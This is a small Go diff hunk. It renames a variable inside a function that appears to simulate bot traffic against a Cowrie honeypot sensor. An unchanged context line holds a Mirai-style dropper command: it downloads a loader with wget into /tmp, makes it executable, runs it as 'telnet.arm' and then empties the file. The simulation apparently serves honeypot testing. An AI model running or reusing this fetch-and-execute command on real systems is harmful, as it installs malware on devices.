@@ -179,7 +179,7 @@ func (t *teller) cowrieBot(log *journal, bot Bot, start time.Duration, sensor co
 	}
 	s.command("cd /tmp || cd /var/run; wget " + LoaderURL + " -O kage; chmod 777 kage; ./kage telnet.arm; >kage")
 	hash := Hash("K1")
-	if start < samplesUp {
+	if start < SamplesUp {
 		hash = ""
 	}
 	t.saw(log.source, cure.KindIP, Loader)
